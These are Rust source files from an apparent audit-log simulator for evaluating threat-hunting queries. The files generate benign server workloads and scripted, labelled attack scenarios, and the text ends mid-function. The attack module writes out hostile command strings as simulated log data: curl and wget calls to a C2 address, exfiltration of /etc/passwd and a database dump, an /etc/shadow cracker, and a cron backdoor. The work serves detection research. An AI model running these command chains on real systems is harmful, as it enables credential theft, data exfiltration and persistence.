        host.read(ld, &format!("/home/dev/proj/build/obj{i}.o"), 9_000);
    }
    host.write_burst(ld, "/home/dev/proj/build/app", 120_000, 16_384);
    host.exit(ld);
    host.exit(make);
    make
}

/// An interactive SSH session running `cmds` shell commands.
pub fn ssh_session(host: &mut Host, cmds: usize) -> Pid {
    let sshd = host.spawn(1, "/usr/sbin/sshd", "sshd: dev [priv]");
    let peer = *CLIENT_IPS.choose(host.rng()).expect("non-empty pool");
    let conn = host.accept(sshd, peer, 22);
    host.recv(sshd, &conn, 1_200);
    let bash = host.spawn_as(sshd, "/bin/bash", "-bash", "dev");
    for _ in 0..cmds {
        let target = *SHELL_TARGETS.choose(host.rng()).expect("non-empty pool");
        let which: u32 = host.rng().random_range(0..4);
        match which {
            0 => {
                let ls = host.spawn(bash, "/bin/ls", "ls -la");
                host.read(ls, "/home/dev", 400);
                host.exit(ls);
            }
            1 => {
                let cat = host.spawn(bash, "/bin/cat", &format!("cat {target}"));
                let n = host_range(host, 500, 6_000);
                host.read_burst(cat, target, n, 4_096);
                host.exit(cat);
            }
            2 => {
                let grep = host.spawn(bash, "/bin/grep", &format!("grep err {target}"));
                let n = host_range(host, 2_000, 20_000);
                host.read_burst(grep, target, n, 8_192);
                host.exit(grep);
            }
            _ => {
                let vim = host.spawn(bash, "/usr/bin/vim", "vim notes.txt");
                host.read(vim, "/home/dev/notes.txt", 2_000);
                host.write(vim, "/home/dev/.notes.txt.swp", 4_096);
                host.write(vim, "/home/dev/notes.txt", 2_100);
                host.unlink(vim, "/home/dev/.notes.txt.swp");
                host.exit(vim);
            }
        }
        let n = host_range(host, 100, 2_000);
        host.send(sshd, &conn, n);
        host.advance(1_000_000);
    }
    host.exit(bash);
    host.exit(sshd);
    sshd
}

/// Cron-driven log rotation: rename logs, recreate, compress old ones.
pub fn cron_logrotate(host: &mut Host) -> Pid {
    let cron = host.spawn(1, "/usr/sbin/cron", "/usr/sbin/cron -f");
    let rotate = host.spawn(cron, "/usr/sbin/logrotate", "logrotate /etc/logrotate.conf");
    host.read(rotate, "/etc/logrotate.conf", 900);
    for log in [
        "/var/log/syslog",
        "/var/log/auth.log",
        "/var/log/apache2/access.log",
    ] {
        let rotated = format!("{log}.1");
        host.rename(rotate, log, &rotated);
        host.write(rotate, log, 0);
        host.chmod(rotate, log);
        let gz = host.spawn(rotate, "/bin/gzip", &format!("gzip {rotated}"));
        let n = host_range(host, 10_000, 80_000);
        host.read_burst(gz, &rotated, n, 16_384);
        let n = host_range(host, 3_000, 20_000);
        host.write_burst(gz, &format!("{rotated}.gz"), n, 16_384);
        host.unlink(gz, &rotated);
        host.exit(gz);
    }
    host.exit(rotate);
    host.exit(cron);
    cron
}

/// Nightly backup: tar archives a directory tree (benign use of the same
/// `/bin/tar` the data-leakage attack abuses — deliberate query noise).
pub fn backup_job(host: &mut Host, files: usize) -> Pid {
    let cron = host.spawn(1, "/usr/sbin/cron", "/usr/sbin/cron -f");
    let tar = host.spawn(cron, "/bin/tar", "tar czf /backup/home.tar.gz /home");
    for i in 0..files {
        let src = format!("/home/dev/data/file{:03}.dat", i % 40);
        let n = host_range(host, 2_000, 30_000);
        host.read_burst(tar, &src, n, 8_192);
        let n = host_range(host, 1_000, 15_000);
        host.write(tar, "/backup/home.tar.gz", n);
    }
    host.close(tar, "/backup/home.tar.gz");
    host.exit(tar);
    host.exit(cron);
    cron
}

/// Package update: apt fetches package lists and a few debs, dpkg installs.
pub fn package_update(host: &mut Host, packages: usize) -> Pid {
    let apt = host.spawn(
        1,
        "/usr/bin/apt-get",
        "apt-get update && apt-get upgrade -y",
    );
    let mirror = host.connect(apt, "151.101.86.132", 443, "tcp");
    host.send(apt, &mirror, 600);
    let n = host_range(host, 40_000, 200_000);
    host.recv_burst(apt, &mirror, n, 16_384);
    host.write(apt, "/var/lib/apt/lists/packages.gz", 50_000);
    for i in 0..packages {
        let deb = format!("/var/cache/apt/archives/pkg{i}.deb");
        let n = host_range(host, 100_000, 400_000);
        host.recv_burst(apt, &mirror, n, 32_768);
        let n = host_range(host, 100_000, 400_000);
        host.write_burst(apt, &deb, n, 32_768);
        let dpkg = host.spawn(apt, "/usr/bin/dpkg", &format!("dpkg -i {deb}"));
        let n = host_range(host, 100_000, 400_000);
        host.read_burst(dpkg, &deb, n, 32_768);
        let n = host_range(host, 40_000, 120_000);
        host.write(dpkg, &format!("/usr/bin/tool{i}"), n);
        host.chmod(dpkg, &format!("/usr/bin/tool{i}"));
        host.write(dpkg, "/var/lib/dpkg/status", 2_000);
        host.exit(dpkg);
    }
    host.exit(apt);
    apt
}

/// A PostgreSQL-ish database serving `queries` queries over heap files.
pub fn db_server(host: &mut Host, queries: usize) -> Pid {
    let pg = host.spawn_as(
        1,
        "/usr/lib/postgresql/bin/postgres",
        "postgres -D /var/lib/pgdata",
        "postgres",
    );
    host.read(pg, "/var/lib/pgdata/postgresql.conf", 1_200);
    for _ in 0..queries {
        let peer = *CLIENT_IPS.choose(host.rng()).expect("non-empty pool");
        let conn = host.accept(pg, peer, 5432);
        let n = host_range(host, 100, 600);
        host.recv(pg, &conn, n);
        let rel = host.rng().random_range(16_384..16_390u32);
        let heap = format!("/var/lib/pgdata/base/13400/{rel}");
        let n = host_range(host, 8_000, 64_000);
        host.read_burst(pg, &heap, n, 8_192);
        if host.rng().random_bool(0.3) {
            host.write(pg, &heap, 8_192);
            host.write(pg, "/var/lib/pgdata/pg_wal/000000010000000000000001", 8_192);
        }
        let n = host_range(host, 500, 8_000);
        host.send(pg, &conn, n);
        host.advance(300_000);
    }
    pg
}

/// Uniform random helper that borrows the host RNG without holding it
/// across other host calls.
fn host_range(host: &mut Host, lo: u64, hi: u64) -> u64 {
    host.rng().random_range(lo..hi)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Operation;
    use crate::parser::Parser;
    use crate::rawlog::encode_lines;

    fn parse(host: Host) -> crate::parser::ParsedLog {
        Parser::new()
            .parse_document(&encode_lines(&host.into_records()))
            .unwrap()
    }

    #[test]
    fn web_server_emits_expected_ops() {
        let mut h = Host::new(42);
        web_server(&mut h, 5);
        let log = parse(h);
        let accepts = log
            .events
            .iter()
            .filter(|e| e.op == Operation::Accept)
            .count();
        assert_eq!(accepts, 5);
        assert!(log.events.iter().any(|e| e.op == Operation::Send));
        assert!(log.events.iter().all(|e| e.tag.is_none()));
    }

    #[test]
    fn dev_build_creates_gcc_children() {
        let mut h = Host::new(42);
        dev_build(&mut h, 4);
        let log = parse(h);
        let gccs = log
            .entities
            .iter()
            .filter_map(|e| e.as_process())
            .filter(|p| p.exename == "/usr/bin/gcc")
            .count();
        assert_eq!(gccs, 4);
    }

    #[test]
    fn logrotate_renames_and_compresses() {
        let mut h = Host::new(42);
        cron_logrotate(&mut h);
        let log = parse(h);
        assert!(log.events.iter().any(|e| e.op == Operation::Rename));
        assert!(log.events.iter().any(|e| e.op == Operation::Unlink));
        assert!(log
            .entities
            .iter()
            .filter_map(|e| e.as_file())
            .any(|f| f.name.ends_with(".gz")));
    }

    #[test]
    fn backup_uses_benign_tar() {
        let mut h = Host::new(42);
        backup_job(&mut h, 10);
        let log = parse(h);
        let tar = log
            .entities
            .iter()
            .filter_map(|e| e.as_process())
            .find(|p| p.exename == "/bin/tar")
            .expect("tar process exists");
        assert_eq!(tar.owner, "root");
        assert!(log.events.iter().all(|e| !e.is_attack()));
    }

    #[test]
    fn package_update_touches_network_and_files() {
        let mut h = Host::new(42);
        package_update(&mut h, 2);
        let log = parse(h);
        assert!(log.events.iter().any(|e| e.op == Operation::Connect));
        assert!(log.events.iter().any(|e| e.op == Operation::Chmod));
        let (files, procs, nets) = log.entity_counts();
        assert!(files >= 4 && procs >= 3 && nets >= 1);
    }

    #[test]
    fn db_server_round_trips() {
        let mut h = Host::new(42);
        db_server(&mut h, 8);
        let log = parse(h);
        let accepts = log
            .events
            .iter()
            .filter(|e| e.op == Operation::Accept)
            .count();
        assert_eq!(accepts, 8);
    }

    #[test]
    fn workloads_are_deterministic() {
        let run = |seed| {
            let mut h = Host::new(seed);
            web_server(&mut h, 3);
            ssh_session(&mut h, 3);
            encode_lines(&h.into_records())
        };
        assert_eq!(run(5), run(5));
    }
}
