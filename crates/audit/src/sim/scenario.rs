//! Scenario composition: benign rounds interleaved with attacks, encoded
//! to the raw log format and parsed back — the full Fig. 1 data path from
//! "System Auditing" through "Log Parsing".

use super::attack;
use super::benign;
use super::host::Host;
use crate::event::EventId;
use crate::parser::{ParsedLog, Parser};
use crate::rawlog::encode_lines;
use rand::Rng;

/// The four scripted attack cases.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AttackKind {
    /// Fig. 2: data leakage after Shellshock penetration.
    DataLeakage,
    /// §III bullet 1: password cracking after Shellshock penetration.
    PasswordCrack,
    /// Additional case: malware drop with cron persistence.
    MalwareDrop,
    /// Additional case: database dump exfiltration.
    DbExfil,
}

impl AttackKind {
    /// All attack kinds, in a stable order.
    pub const ALL: [AttackKind; 4] = [
        AttackKind::DataLeakage,
        AttackKind::PasswordCrack,
        AttackKind::MalwareDrop,
        AttackKind::DbExfil,
    ];

    /// The ground-truth case name used in event tags.
    pub fn case_name(self) -> &'static str {
        match self {
            AttackKind::DataLeakage => attack::CASE_DATA_LEAKAGE,
            AttackKind::PasswordCrack => attack::CASE_PASSWORD_CRACK,
            AttackKind::MalwareDrop => attack::CASE_MALWARE_DROP,
            AttackKind::DbExfil => attack::CASE_DB_EXFIL,
        }
    }

    /// Number of hunted steps (events the synthesized query retrieves).
    pub fn hunted_step_count(self) -> u32 {
        match self {
            AttackKind::DataLeakage => 8,
            AttackKind::PasswordCrack => 6,
            AttackKind::MalwareDrop => 4,
            AttackKind::DbExfil => 6,
        }
    }

    /// Runs the attack script against the host.
    pub fn run(self, host: &mut Host) {
        match self {
            AttackKind::DataLeakage => attack::data_leakage(host),
            AttackKind::PasswordCrack => attack::password_crack(host),
            AttackKind::MalwareDrop => attack::malware_drop(host),
            AttackKind::DbExfil => attack::db_exfil(host),
        }
    }
}

/// Relative weights of benign workload rounds.
///
/// One "round" of each workload emits a few hundred events; the scenario
/// builder cycles rounds according to these weights until the target event
/// count is reached.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BenignMix {
    /// Web-server request batches.
    pub web: u32,
    /// Software build rounds.
    pub builds: u32,
    /// Interactive SSH sessions.
    pub ssh: u32,
    /// Cron log-rotation rounds.
    pub cron: u32,
    /// Backup (benign tar) rounds.
    pub backup: u32,
    /// Package-update rounds.
    pub updates: u32,
    /// Database-traffic rounds.
    pub db: u32,
}

impl Default for BenignMix {
    fn default() -> Self {
        // A server profile: web + db dominate, with periodic maintenance.
        BenignMix {
            web: 6,
            builds: 2,
            ssh: 2,
            cron: 1,
            backup: 1,
            updates: 1,
            db: 4,
        }
    }
}

impl BenignMix {
    fn weighted_rounds(&self) -> Vec<BenignRound> {
        let mut rounds = Vec::new();
        let mut push = |n: u32, r: BenignRound| {
            for _ in 0..n {
                rounds.push(r);
            }
        };
        push(self.web, BenignRound::Web);
        push(self.builds, BenignRound::Build);
        push(self.ssh, BenignRound::Ssh);
        push(self.cron, BenignRound::Cron);
        push(self.backup, BenignRound::Backup);
        push(self.updates, BenignRound::Update);
        push(self.db, BenignRound::Db);
        if rounds.is_empty() {
            rounds.push(BenignRound::Web);
        }
        rounds
    }
}

#[derive(Debug, Clone, Copy)]
enum BenignRound {
    Web,
    Build,
    Ssh,
    Cron,
    Backup,
    Update,
    Db,
}

impl BenignRound {
    fn run(self, host: &mut Host) {
        match self {
            BenignRound::Web => {
                benign::web_server(host, 12);
            }
            BenignRound::Build => {
                benign::dev_build(host, 5);
            }
            BenignRound::Ssh => {
                benign::ssh_session(host, 6);
            }
            BenignRound::Cron => {
                benign::cron_logrotate(host);
            }
            BenignRound::Backup => {
                benign::backup_job(host, 15);
            }
            BenignRound::Update => {
                benign::package_update(host, 2);
            }
            BenignRound::Db => {
                benign::db_server(host, 10);
            }
        }
    }
}

/// Declarative scenario specification.
#[derive(Debug, Clone)]
pub struct ScenarioSpec {
    /// RNG seed; identical specs with identical seeds produce identical
    /// raw logs.
    pub seed: u64,
    /// Attacks to interleave with benign activity.
    pub attacks: Vec<AttackKind>,
    /// Benign workload mix.
    pub mix: BenignMix,
    /// Approximate number of raw events to emit (the builder stops adding
    /// benign rounds once this is reached; attacks always run in full).
    pub target_events: usize,
}

impl Default for ScenarioSpec {
    fn default() -> Self {
        ScenarioSpec {
            seed: 42,
            attacks: vec![AttackKind::DataLeakage],
            mix: BenignMix::default(),
            target_events: 20_000,
        }
    }
}

/// Fluent builder for [`Scenario`].
#[derive(Debug, Clone, Default)]
pub struct ScenarioBuilder {
    spec: ScenarioSpec,
}

impl ScenarioBuilder {
    /// Starts from the default spec (data-leakage attack, 20k events).
    pub fn new() -> Self {
        Self::default()
    }

    /// Sets the RNG seed.
    pub fn seed(mut self, seed: u64) -> Self {
        self.spec.seed = seed;
        self
    }

    /// Replaces the attack list.
    pub fn attacks(mut self, attacks: &[AttackKind]) -> Self {
        self.spec.attacks = attacks.to_vec();
        self
    }

    /// Removes all attacks (pure benign scenario).
    pub fn no_attacks(mut self) -> Self {
        self.spec.attacks.clear();
        self
    }

    /// Sets the approximate raw event count.
    pub fn target_events(mut self, n: usize) -> Self {
        self.spec.target_events = n;
        self
    }

    /// Sets the benign mix.
    pub fn mix(mut self, mix: BenignMix) -> Self {
        self.spec.mix = mix;
        self
    }

    /// Builds the scenario: runs the simulation, encodes raw text, parses
    /// it back.
    pub fn build(self) -> Scenario {
        Scenario::generate(self.spec)
    }
}

/// A fully generated scenario: the raw log text, the parsed log, and the
/// spec that produced them.
#[derive(Debug, Clone)]
pub struct Scenario {
    /// Specification used to generate the scenario.
    pub spec: ScenarioSpec,
    /// Raw Sysdig-like log text.
    pub raw: String,
    /// Parsed entities + events (what downstream layers consume).
    pub log: ParsedLog,
}

impl Scenario {
    /// Generates a scenario from a spec.
    pub fn generate(spec: ScenarioSpec) -> Scenario {
        let mut host = Host::new(spec.seed);
        let rounds = spec.mix.weighted_rounds();
        let mut round_idx = 0usize;

        // Choose, per attack, the benign-event threshold after which it
        // fires (spread across the middle 60% of the scenario).
        let mut attack_points: Vec<(usize, AttackKind)> = spec
            .attacks
            .iter()
            .map(|&kind| {
                let lo = spec.target_events / 5;
                let hi = (spec.target_events * 4 / 5).max(lo + 1);
                let at = host.rng().random_range(lo..hi);
                (at, kind)
            })
            .collect();
        attack_points.sort_by_key(|(at, _)| *at);

        let mut next_attack = 0usize;
        while host.record_count() < spec.target_events || next_attack < attack_points.len() {
            // Fire any attacks whose threshold has been crossed.
            while next_attack < attack_points.len()
                && host.record_count() >= attack_points[next_attack].0
            {
                attack_points[next_attack].1.run(&mut host);
                next_attack += 1;
            }
            if host.record_count() >= spec.target_events {
                // Target reached; only remaining attacks (if any) keep us
                // looping, and they fire above.
                if next_attack >= attack_points.len() {
                    break;
                }
                // Fast-forward: fire remaining attacks immediately.
                attack_points[next_attack].1.run(&mut host);
                next_attack += 1;
                continue;
            }
            rounds[round_idx % rounds.len()].run(&mut host);
            round_idx += 1;
            host.advance(5_000_000);
        }

        let raw = encode_lines(&host.into_records());
        let log = Parser::new()
            .parse_document(&raw)
            .expect("simulator output must always parse");
        Scenario { spec, raw, log }
    }

    /// Ground-truth hunted events for `case`: ids of events tagged with
    /// that case and a step number below the context base.
    pub fn ground_truth(&self, case: &str) -> Vec<EventId> {
        self.log
            .events
            .iter()
            .filter(|e| {
                e.tag
                    .as_ref()
                    .is_some_and(|t| t.case == case && t.step < attack::CONTEXT_STEP_BASE)
            })
            .map(|e| e.id)
            .collect()
    }

    /// All attack events (hunted + context) for `case`.
    pub fn attack_events(&self, case: &str) -> Vec<EventId> {
        self.log
            .events
            .iter()
            .filter(|e| e.tag.as_ref().is_some_and(|t| t.case == case))
            .map(|e| e.id)
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_scenario_builds_and_contains_attack() {
        let sc = ScenarioBuilder::new().seed(42).target_events(3_000).build();
        assert!(sc.log.events.len() >= 3_000);
        let gt = sc.ground_truth(attack::CASE_DATA_LEAKAGE);
        assert_eq!(gt.len(), 8, "Fig. 2 chain has exactly 8 hunted events");
    }

    #[test]
    fn scenario_is_deterministic() {
        let a = ScenarioBuilder::new().seed(7).target_events(2_000).build();
        let b = ScenarioBuilder::new().seed(7).target_events(2_000).build();
        assert_eq!(a.raw, b.raw);
        let c = ScenarioBuilder::new().seed(8).target_events(2_000).build();
        assert_ne!(a.raw, c.raw);
    }

    #[test]
    fn all_attacks_fire_even_past_target() {
        let sc = ScenarioBuilder::new()
            .seed(3)
            .attacks(&AttackKind::ALL)
            .target_events(1_000)
            .build();
        for kind in AttackKind::ALL {
            let gt = sc.ground_truth(kind.case_name());
            assert_eq!(
                gt.len() as u32,
                kind.hunted_step_count(),
                "{} hunted events",
                kind.case_name()
            );
        }
    }

    #[test]
    fn benign_scenario_has_no_tags() {
        let sc = ScenarioBuilder::new()
            .seed(5)
            .no_attacks()
            .target_events(1_500)
            .build();
        assert!(sc.log.events.iter().all(|e| e.tag.is_none()));
    }

    #[test]
    fn attack_events_superset_of_ground_truth() {
        let sc = ScenarioBuilder::new().seed(11).target_events(2_000).build();
        let all = sc.attack_events(attack::CASE_DATA_LEAKAGE);
        let hunted = sc.ground_truth(attack::CASE_DATA_LEAKAGE);
        assert!(all.len() > hunted.len());
        for id in &hunted {
            assert!(all.contains(id));
        }
    }

    #[test]
    fn mix_weights_respected() {
        let mix = BenignMix {
            web: 0,
            builds: 0,
            ssh: 0,
            cron: 0,
            backup: 0,
            updates: 0,
            db: 1,
        };
        let sc = ScenarioBuilder::new()
            .seed(1)
            .no_attacks()
            .mix(mix)
            .target_events(500)
            .build();
        // Only the db workload (plus init) should appear.
        let exes: std::collections::HashSet<_> = sc
            .log
            .entities
            .iter()
            .filter_map(|e| e.as_process())
            .map(|p| p.exename.as_str())
            .collect();
        assert!(exes.contains("/usr/lib/postgresql/bin/postgres"));
        assert!(!exes.contains("/usr/sbin/apache2"));
    }

    #[test]
    fn empty_mix_falls_back_to_web() {
        let mix = BenignMix {
            web: 0,
            builds: 0,
            ssh: 0,
            cron: 0,
            backup: 0,
            updates: 0,
            db: 0,
        };
        let sc = ScenarioBuilder::new()
            .seed(1)
            .no_attacks()
            .mix(mix)
            .target_events(200)
            .build();
        assert!(!sc.log.events.is_empty());
    }
}
