//! Host simulator: a deterministic stand-in for a Sysdig-audited machine.
//!
//! The paper deploys ThreatRaptor on a live server where "benign system
//! activities and malicious system activities co-exist" (§III). This module
//! reproduces that setting reproducibly:
//!
//! * [`host::Host`] — kernel-style bookkeeping (pid allocation, live
//!   process table, ephemeral ports) plus a virtual clock with jittered
//!   syscall latencies; every action appends a [`crate::rawlog::RawRecord`].
//! * [`benign`] — background workload generators (web serving, software
//!   builds, shell sessions, cron jobs, backups, package updates, database
//!   traffic) that emulate the "routine tasks" of the deployed server.
//! * [`attack`] — scripted multi-step attacks: the paper's two demo
//!   attacks (password cracking after Shellshock penetration, data leakage
//!   after Shellshock penetration — the latter reproducing Fig. 2's IOC
//!   chain verbatim) plus two additional CVE-style cases.
//! * [`scenario`] — composes benign rounds and attacks into a full raw log
//!   with ground-truth labels, then round-trips it through the text format
//!   and parser so downstream layers consume *parsed logs*, as in Fig. 1.

pub mod attack;
pub mod benign;
pub mod host;
pub mod scenario;

pub use host::{Host, Pid};
