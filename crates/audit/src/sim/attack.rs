//! Scripted multi-step attacks with ground-truth labels.
//!
//! Two attacks reproduce the paper's demonstration scenarios (§III):
//! *data leakage after Shellshock penetration* (whose exfiltration chain is
//! Fig. 2's IOC chain, verbatim) and *password cracking after Shellshock
//! penetration*. Two further CVE-style cases (malware drop with cron
//! persistence; database dump exfiltration) widen the evaluation.
//!
//! Tagging convention: the *hunted* steps — the events the synthesized
//! TBQL query is expected to retrieve — are tagged `1..=n`; surrounding
//! attack context (penetration, process spawning, cleanup) is tagged with
//! step numbers `>= CONTEXT_STEP_BASE` and is *not* counted as ground
//! truth for hunting precision/recall.

use super::host::Host;

/// Steps at or above this value are attack context, not hunted behavior.
pub const CONTEXT_STEP_BASE: u32 = 100;

/// Case name for the Fig. 2 data-leakage attack.
pub const CASE_DATA_LEAKAGE: &str = "data_leakage";
/// Case name for the password-cracking attack.
pub const CASE_PASSWORD_CRACK: &str = "password_crack";
/// Case name for the malware-drop attack.
pub const CASE_MALWARE_DROP: &str = "malware_drop";
/// Case name for the database-exfiltration attack.
pub const CASE_DB_EXFIL: &str = "db_exfil";

/// The attacker's C2 host (paper Fig. 2: `192.168.29.128`).
pub const C2_IP: &str = "192.168.29.128";
/// Source IP the attacker penetrates from.
pub const ATTACKER_IP: &str = "203.0.113.99";
/// Dropbox-like cloud-service IP used by the password-cracking attack.
pub const CLOUD_IP: &str = "162.125.6.2";
/// Malware distribution host for the malware-drop attack.
pub const MALWARE_HOST_IP: &str = "203.0.113.66";
/// Exfiltration destination for the database-dump attack.
pub const EXFIL_IP: &str = "198.51.100.77";

/// Shellshock penetration context shared by the two paper attacks:
/// Apache receives the crafted request and a bash shell is spawned.
/// Returns the attacker-controlled shell pid. All events are tagged as
/// context for `case`.
fn shellshock_penetration(host: &mut Host, case: &str) -> super::host::Pid {
    host.set_tag(case, CONTEXT_STEP_BASE);
    let httpd = host.spawn_as(
        1,
        "/usr/sbin/apache2",
        "/usr/sbin/apache2 -k start",
        "www-data",
    );
    let conn = host.accept(httpd, ATTACKER_IP, 80);
    // The crafted `() { :; };` CGI request.
    host.recv(httpd, &conn, 512);
    host.set_tag(case, CONTEXT_STEP_BASE + 1);
    let cgi = host.spawn(httpd, "/usr/lib/cgi-bin/status.sh", "status.sh");
    let shell = host.spawn(cgi, "/bin/bash", "bash -i");
    host.send(httpd, &conn, 128);
    shell
}

/// **Data Leakage After Shellshock Penetration** — the paper's Fig. 2 case.
///
/// Hunted steps (matching `evt1`–`evt8` of the synthesized TBQL query):
///
/// 1. `/bin/tar` reads `/etc/passwd`
/// 2. `/bin/tar` writes `/tmp/upload.tar`
/// 3. `/bin/bzip2` reads `/tmp/upload.tar`
/// 4. `/bin/bzip2` writes `/tmp/upload.tar.bz2`
/// 5. `/usr/bin/gpg` reads `/tmp/upload.tar.bz2`
/// 6. `/usr/bin/gpg` writes `/tmp/upload`
/// 7. `/usr/bin/curl` reads `/tmp/upload`
/// 8. `/usr/bin/curl` connects to `192.168.29.128`
pub fn data_leakage(host: &mut Host) {
    let case = CASE_DATA_LEAKAGE;
    let shell = shellshock_penetration(host, case);

    host.set_tag(case, CONTEXT_STEP_BASE + 2);
    let tar = host.spawn(shell, "/bin/tar", "/bin/tar cf /tmp/upload.tar /etc/passwd");
    host.set_tag(case, 1);
    host.read(tar, "/etc/passwd", 2_843);
    host.set_tag(case, 2);
    host.write(tar, "/tmp/upload.tar", 10_240);
    host.clear_tag();
    host.exit(tar);
    host.advance(2_000_000);

    host.set_tag(case, CONTEXT_STEP_BASE + 3);
    let bzip2 = host.spawn(shell, "/bin/bzip2", "/bin/bzip2 -9 /tmp/upload.tar");
    host.set_tag(case, 3);
    host.read(bzip2, "/tmp/upload.tar", 10_240);
    host.set_tag(case, 4);
    host.write(bzip2, "/tmp/upload.tar.bz2", 3_120);
    host.clear_tag();
    host.exit(bzip2);
    host.advance(2_000_000);

    host.set_tag(case, CONTEXT_STEP_BASE + 4);
    let gpg = host.spawn(shell, "/usr/bin/gpg", "/usr/bin/gpg -c /tmp/upload.tar.bz2");
    host.set_tag(case, 5);
    host.read(gpg, "/tmp/upload.tar.bz2", 3_120);
    host.set_tag(case, 6);
    host.write(gpg, "/tmp/upload", 3_200);
    host.clear_tag();
    host.exit(gpg);
    host.advance(2_000_000);

    host.set_tag(case, CONTEXT_STEP_BASE + 5);
    let curl = host.spawn(shell, "/usr/bin/curl", "curl -T /tmp/upload http://c2/drop");
    host.set_tag(case, 7);
    host.read(curl, "/tmp/upload", 3_200);
    host.set_tag(case, 8);
    let conn = host.connect(curl, C2_IP, 443, "tcp");
    host.set_tag(case, CONTEXT_STEP_BASE + 6);
    host.send(curl, &conn, 3_200);
    host.clear_tag();
    host.exit(curl);
    host.exit(shell);
}

/// **Password Cracking After Shellshock Penetration** — §III bullet 1.
///
/// Hunted steps:
///
/// 1. `/usr/bin/curl` connects to the cloud service (`162.125.6.2`)
/// 2. `/usr/bin/curl` writes `/tmp/cloud.jpg` (image with C2 IP in EXIF)
/// 3. `/usr/bin/wget` connects to the C2 host (`192.168.29.128`)
/// 4. `/usr/bin/wget` writes `/tmp/cracker`
/// 5. `/tmp/cracker` reads `/etc/shadow`
/// 6. `/tmp/cracker` writes `/tmp/passwords.txt`
pub fn password_crack(host: &mut Host) {
    let case = CASE_PASSWORD_CRACK;
    let shell = shellshock_penetration(host, case);

    host.set_tag(case, CONTEXT_STEP_BASE + 2);
    let curl = host.spawn(shell, "/usr/bin/curl", "curl -O https://dropbox/cloud.jpg");
    host.set_tag(case, 1);
    let cloud = host.connect(curl, CLOUD_IP, 443, "tcp");
    host.set_tag(case, CONTEXT_STEP_BASE + 3);
    host.recv(curl, &cloud, 48_000);
    host.set_tag(case, 2);
    host.write(curl, "/tmp/cloud.jpg", 48_000);
    host.clear_tag();
    host.exit(curl);
    host.advance(2_000_000);

    // Extract the C2 address from EXIF metadata (context).
    host.set_tag(case, CONTEXT_STEP_BASE + 4);
    let exif = host.spawn(shell, "/usr/bin/exiftool", "exiftool /tmp/cloud.jpg");
    host.read(exif, "/tmp/cloud.jpg", 48_000);
    host.exit(exif);
    host.advance(1_000_000);

    host.set_tag(case, CONTEXT_STEP_BASE + 5);
    let wget = host.spawn(shell, "/usr/bin/wget", "wget http://192.168.29.128/cracker");
    host.set_tag(case, 3);
    let c2 = host.connect(wget, C2_IP, 80, "tcp");
    host.set_tag(case, CONTEXT_STEP_BASE + 6);
    host.recv(wget, &c2, 220_000);
    host.set_tag(case, 4);
    host.write(wget, "/tmp/cracker", 220_000);
    host.clear_tag();
    host.exit(wget);
    host.advance(1_000_000);

    host.set_tag(case, CONTEXT_STEP_BASE + 7);
    host.chmod(shell, "/tmp/cracker");
    let cracker = host.spawn(shell, "/tmp/cracker", "/tmp/cracker /etc/shadow");
    host.set_tag(case, 5);
    host.read(cracker, "/etc/shadow", 1_680);
    host.set_tag(case, CONTEXT_STEP_BASE + 8);
    host.read(cracker, "/usr/share/wordlists/rockyou.txt", 139_921_497);
    host.set_tag(case, 6);
    host.write(cracker, "/tmp/passwords.txt", 310);
    host.clear_tag();
    host.exit(cracker);
    host.exit(shell);
}

/// **Malware Drop with Cron Persistence** (additional case).
///
/// Hunted steps:
///
/// 1. `/usr/bin/wget` connects to the malware host (`203.0.113.66`)
/// 2. `/usr/bin/wget` writes `/tmp/.hidden/payload`
/// 3. `/tmp/.hidden/payload` connects back to `203.0.113.66` (beacon)
/// 4. `/tmp/.hidden/payload` writes `/etc/cron.d/backdoor`
pub fn malware_drop(host: &mut Host) {
    let case = CASE_MALWARE_DROP;
    host.set_tag(case, CONTEXT_STEP_BASE);
    let sshd = host.spawn(1, "/usr/sbin/sshd", "sshd: root@pts/1");
    let conn = host.accept(sshd, ATTACKER_IP, 22);
    host.recv(sshd, &conn, 900);
    let shell = host.spawn(sshd, "/bin/bash", "-bash");

    host.set_tag(case, CONTEXT_STEP_BASE + 1);
    let wget = host.spawn(shell, "/usr/bin/wget", "wget http://203.0.113.66/payload");
    host.set_tag(case, 1);
    let dl = host.connect(wget, MALWARE_HOST_IP, 80, "tcp");
    host.set_tag(case, CONTEXT_STEP_BASE + 2);
    host.recv(wget, &dl, 88_000);
    host.set_tag(case, 2);
    host.write(wget, "/tmp/.hidden/payload", 88_000);
    host.clear_tag();
    host.exit(wget);
    host.advance(1_000_000);

    host.set_tag(case, CONTEXT_STEP_BASE + 3);
    host.chmod(shell, "/tmp/.hidden/payload");
    let payload = host.spawn(shell, "/tmp/.hidden/payload", "/tmp/.hidden/payload -d");
    host.set_tag(case, 3);
    let beacon = host.connect(payload, MALWARE_HOST_IP, 4_444, "tcp");
    host.set_tag(case, CONTEXT_STEP_BASE + 4);
    host.send(payload, &beacon, 256);
    host.set_tag(case, 4);
    host.write(payload, "/etc/cron.d/backdoor", 120);
    host.clear_tag();
    host.exit(shell);
    host.exit(sshd);
    // The payload daemon stays resident.
}

/// **Database Dump Exfiltration** (additional case).
///
/// Hunted steps:
///
/// 1. `/usr/bin/pg_dump` reads the database heap (`/var/lib/pgdata/base/13400/16384`)
/// 2. `/usr/bin/pg_dump` writes `/tmp/db.sql`
/// 3. `/bin/gzip` reads `/tmp/db.sql`
/// 4. `/bin/gzip` writes `/tmp/db.sql.gz`
/// 5. `/usr/bin/scp` reads `/tmp/db.sql.gz`
/// 6. `/usr/bin/scp` connects to `198.51.100.77`
pub fn db_exfil(host: &mut Host) {
    let case = CASE_DB_EXFIL;
    host.set_tag(case, CONTEXT_STEP_BASE);
    let sshd = host.spawn(1, "/usr/sbin/sshd", "sshd: postgres@pts/2");
    let conn = host.accept(sshd, ATTACKER_IP, 22);
    host.recv(sshd, &conn, 700);
    let shell = host.spawn_as(sshd, "/bin/bash", "-bash", "postgres");

    host.set_tag(case, CONTEXT_STEP_BASE + 1);
    let dump = host.spawn(shell, "/usr/bin/pg_dump", "pg_dump -f /tmp/db.sql app");
    host.set_tag(case, 1);
    host.read(dump, "/var/lib/pgdata/base/13400/16384", 4_200_000);
    host.set_tag(case, 2);
    host.write(dump, "/tmp/db.sql", 3_900_000);
    host.clear_tag();
    host.exit(dump);
    host.advance(3_000_000);

